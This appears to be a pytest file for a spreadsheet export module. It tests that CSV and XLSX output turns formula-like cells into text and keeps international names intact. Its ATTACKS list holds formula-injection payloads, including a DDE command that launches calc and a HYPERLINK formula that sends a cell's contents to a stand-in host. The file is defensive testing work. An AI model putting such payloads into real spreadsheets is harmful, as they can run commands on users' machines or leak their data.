"""T23: what leaves for a spreadsheet is never run by it, and every name survives as it was written."""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from datetime import date

import openpyxl
import pytest

from foundation.sheets import Cell, without_formula, write_csv, write_xlsx

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"Ana")',
    "+1-303-555-0110",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "|calc",
    ";=1+1",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]
NAMES = [
    "Ñuñez, Íñigo",
    "Nguyễn, Minh Châu",
    "O’Brien, Siobhán",
    "李, 小龍",
    "Smith-Jones, Ann",
    'Ana "Nita", Jr.',
    "a;b,c",
]


def written_csv(rows: Sequence[Sequence[Cell]]) -> bytes:
    file = io.BytesIO()
    write_csv(file, ["name", "day", "number"], rows)
    return file.getvalue()


def written_xlsx(rows: Sequence[Sequence[Cell]]) -> openpyxl.Workbook:
    file = io.BytesIO()
    write_xlsx(file, ["name", "day", "number"], rows, title="Access")
    return openpyxl.load_workbook(file)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_a_csv_begins_like_a_formula(attack: str) -> None:
    text = written_csv([[attack, None, 1]]).decode("utf-8-sig")

    row = list(csv.reader(io.StringIO(text, newline="")))[1]
    assert row[0] == f"'{attack}"
    assert row[0].removeprefix("'") == attack


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_of_an_xlsx_is_text_with_its_value_unchanged(attack: str) -> None:
    cell = written_xlsx([[attack, None, 1]]).active["A2"]

    assert cell.data_type in ("s", "inlineStr")
    assert cell.value.replace("_x000D_", "\r") == attack
    assert cell.quotePrefix, "editing the cell would make a formula of it"


@pytest.mark.parametrize("name", NAMES)
def test_a_name_survives_both_kinds_of_file(name: str) -> None:
    text = written_csv([[name, date(2027, 6, 30), 7]]).decode("utf-8-sig")

    assert list(csv.reader(io.StringIO(text, newline="")))[1] == [name, "2027-06-30", "7"]
    row = next(written_xlsx([[name, date(2027, 6, 30), 7]]).active.iter_rows(min_row=2))
    assert row[0].value == name
    assert row[1].value.date() == date(2027, 6, 30)
    assert row[2].value == 7


def test_a_csv_tells_spreadsheets_its_encoding() -> None:
    assert written_csv([]).startswith(b"\xef\xbb\xbfname,day,number\r\n")


def test_the_head_is_text_too() -> None:
    """A title of a column comes from a translation, and a translator may begin with a sign."""
    file = io.BytesIO()
    write_xlsx(file, ["=1+1"], [], title="Access")

    assert openpyxl.load_workbook(file).active["A1"].data_type == "s"


def test_what_is_no_formula_is_left_as_it_is() -> None:
    assert [without_formula(name) for name in NAMES] == NAMES
